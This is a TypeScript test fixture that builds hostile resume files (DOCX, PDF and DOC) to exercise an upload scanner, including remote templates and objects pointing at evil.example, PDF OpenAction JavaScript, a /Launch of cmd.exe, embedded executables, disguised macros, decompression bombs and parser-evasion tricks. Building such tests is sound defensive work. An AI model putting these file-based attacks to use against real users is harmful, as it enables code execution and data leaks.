import {
  contentTypes,
  objectStream,
  pdfStream,
  pdfWith,
  relationship,
  relationships,
  sampleDocx,
  sampleOle,
  samplePdf,
  sampleZip,
  wordEntries,
} from './resume.testkit.ts';

/** A file that may harm the computer that opens it. */
export type HostileResume = readonly [what: string, fileName: string, content: Buffer];

const documentRels = 'word/_rels/document.xml.rels';
const settingsRels = 'word/_rels/settings.xml.rels';
const external = 'TargetMode="External"';
const ole = 'd0cf11e0a1b11ae1';
const javaScript = '<</S/JavaScript/JS(app.alert(1))>>';

/** Returns a document with an additional relationship. */
function related(type: string, target: string, more = '', rels = documentRels): Buffer {
  return sampleDocx({ name: rels, content: relationships(relationship(type, target, more)) });
}

/** Returns a document with this content as its relationships part. */
function withRelationships(content: string | Buffer): Buffer {
  return sampleDocx({ name: documentRels, content });
}

const bombBytes = 70 * 1024 * 1024;
const externalPicture = relationship('image', 'https://evil.example/x.png', external);

/** Hostile DOCX files. */
export const hostilePackages: readonly HostileResume[] = [
  ['a template on a server', related('attachedTemplate', 'https://evil.example/t.dotm', external, settingsRels)],
  ['a template on a share', related('attachedTemplate', 'file://evil.example/t.dotm', external, settingsRels)],
  ['a template on a share, as a path', related('attachedTemplate', String.raw`\\evil.example\t.dotm`, external)],
  ['a template on a share, as five slashes', related('attachedTemplate', 'file://///evil.example/t', external)],
  ['a template on a share, escaped', related('attachedTemplate', 'file:///%5C%5Cevil.example/t', external)],
  ['an object that is loaded from a server', related('oleObject', 'mhtml:https://evil.example!x-usc:x', external)],
  ['a picture that is loaded from a server', related('image', 'https://evil.example/x.png', external)],
  ['a frame of another document', related('frame', 'https://evil.example/', external)],
  ['a server that is not declared as external', related('image', 'https://evil.example/x.png')],
  ['an external target in other letters', related('image', 'x.png', 'TargetMode="external"')],
  ['an object in a package', related('package', 'embeddings/evil.docx')],
  ['an embedded object', related('oleObject', 'embeddings/oleObject1.bin')],
  [
    'an embedded object without a relationship',
    sampleDocx({ name: 'word/embeddings/o.png', content: Buffer.from(ole, 'hex') }),
  ],
  ['a text of another format', related('aFChunk', 'afchunk.rtf')],
  ['a control', related('control', 'x/x.xml')],
  [
    'macros under the name of a picture',
    sampleDocx(
      {
        name: '[Content_Types].xml',
        content: contentTypes({ '/word/media/image1.png': 'application/vnd.ms-office.vbaProject' }),
      },
      { name: 'word/media/image1.png', content: 'Attribute VB_Name' },
    ),
  ],
  ['macros related under the name of a picture', related('vbaProject', 'media/image1.png')],
  [
    'a type that enables macros',
    sampleDocx({
      name: '[Content_Types].xml',
      content: contentTypes({ '/x': 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
    }),
  ],
  ['a binary part', sampleDocx({ name: 'word/embeddings/x.bin' })],
  ['a program', sampleDocx({ name: 'word/media/run.exe', content: 'MZ\x90\0' })],
  ['a program under the name of a picture', sampleDocx({ name: 'word/media/run.png', content: 'MZ\x90\0' })],
  ['a script', sampleDocx({ name: 'word/media/run.js', content: 'x' })],
  ['a bomb', sampleDocx({ name: 'word/media/image1.bmp', content: Buffer.alloc(bombBytes) })],
  [
    'a bomb that declares 1 kB',
    sampleDocx({ name: 'word/media/image1.bmp', content: Buffer.alloc(bombBytes), declaredBytes: 1_000 }),
  ],
  [
    'a list of relationships without end',
    sampleDocx({ name: documentRels, content: relationships(' '.repeat(2_000_000)) }),
  ],
  ['relationships in UTF-16', withRelationships(Buffer.from(`\ufeff${relationships(externalPicture)}`, 'utf16le'))],
  ['relationships in UTF-16, no mark', withRelationships(Buffer.from(relationships(externalPicture), 'utf16le'))],
  [
    'relationships in big-endian UTF-16',
    withRelationships(Buffer.from(`\ufeff${relationships(externalPicture)}`, 'utf16le').swap16()),
  ],
  ['relationships in UTF-7', withRelationships('<?xml version="1.0" encoding="UTF-7"?>+ADw-Relationships/+AD4-')],
  ['a type with entities', withRelationships(relationships(relationship('&#x6f;le&#79;bject', 'x')))],
  [
    'a type with an entity of its own',
    withRelationships(`<!DOCTYPE x [<!ENTITY e "oleObject">]>${relationships(relationship('&e;', 'x'))}`),
  ],
  [
    'elements with a prefix',
    withRelationships(
      `<r:Relationships xmlns:r="r"><r:Relationship Id="a" Type="x/oleObject" Target="x"/></r:Relationships>`,
    ),
  ],
  [
    'a relationship inside an alternative',
    withRelationships(
      relationships(
        `<mc:AlternateContent xmlns:mc="m"><mc:Choice>${externalPicture}</mc:Choice></mc:AlternateContent>`,
      ),
    ),
  ],
  ['a type with spaces', withRelationships(relationships(relationship('oleObject\n ', 'x')))],
  ['relationships that are not XML', withRelationships('<Relationships><Relationship Type="x/oleObject"')],
  ['an escaped name', sampleDocx({ name: 'word/_rels/document.xml.%72els', content: relationships(externalPicture) })],
  ['a part in pieces', sampleDocx({ name: `${documentRels}/[0].piece`, content: relationships(externalPicture) })],
].map(([what, content]) => [what, 'resume.docx', content] as HostileResume);

/** Hostile PDF files. */
export const hostilePdfs: readonly HostileResume[] = [
  ['a web page before the PDF', Buffer.concat([Buffer.from('<script>alert(1)</script>\n'), samplePdf()])],
  ['a program before the PDF', Buffer.concat([Buffer.from('MZ\x90\0'), samplePdf()])],
  ['a ZIP before the PDF', Buffer.concat([sampleZip(wordEntries), samplePdf()])],
  ['a script', pdfWith(`/OpenAction${javaScript}`)],
  ['a script by its name', pdfWith('/Names<</JavaScript 2 0 R>>', '<</Names[(a) 3 0 R]>>')],
  ['a script under an escaped name', pdfWith('/OpenAction<</S /J#61va#53cript /JS(x)>>')],
  ['a script behind a comment', pdfWith('/OpenAction<</S%(\n/JavaScript/JS(x)>>')],
  ['a script behind a string', pdfWith('/X(a\\)(b)c)/OpenAction<</S/JavaScript/JS(x)>>')],
  ['a script that poses as the place of a link', pdfWith('/OpenAction<</S /JavaScript [0]/JS(x)>>')],
  ['a script in an object stream', pdfWith('/OpenAction 9 0 R', objectStream(javaScript))],
  ['a script in an object stream without a type', pdfWith('/OpenAction 9 0 R', objectStream(javaScript, ''))],
  [
    'a script in an object stream of another filter',
    pdfWith('', pdfStream('3c3c>', '/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode')),
  ],
  [
    'a script in an object stream of a filter elsewhere',
    pdfWith('', pdfStream('9 0 x', '/Type/ObjStm/N 1/First 4/Filter 3 0 R')),
  ],
  ['a bomb in an object stream', pdfWith('', objectStream(' '.repeat(60_000_000)))],
  ['an object inside a stream', pdfWith('/OpenAction 9 0 R', pdfStream(`9 0 obj ${javaScript} endobj`))],
  ['an object inside a string', pdfWith(`/X(9 %\n0 obj ${javaScript} endobj)`)],
  ['a stream without an end', pdfWith('', `<<>>\nstream\n${javaScript}`)],
  ['a string without an end', pdfWith(`/X(${javaScript}`)],
  ['a program to start', pdfWith('/OpenAction<</S/Launch/F(cmd.exe)>>')],
  ['a file inside', pdfWith('', pdfStream('MZ', '/Type/EmbeddedFile'))],
  ['a file inside, without a type', pdfWith('/Names<</EmbeddedFiles<</Names[(a) 2 0 R]>>>>', '<</EF<</F 3 0 R>>>>')],
].map(([what, content]) => [what, 'resume.pdf', content] as HostileResume);

/** Hostile DOC files. */
export const hostileBinaries: readonly HostileResume[] = [
  ['embedded objects', sampleOle(['WordDocument', { name: 'ObjectPool', kind: 'storage' }])],
  ['an object of another program', sampleOle(['WordDocument', '\x01Ole10Native'])],
  ['an equation', sampleOle(['WordDocument', 'Equation Native'])],
  ['macros', sampleOle(['WordDocument', { name: 'Macros', kind: 'storage' }])],
].map(([what, content]) => [what, 'resume.doc', content] as HostileResume);
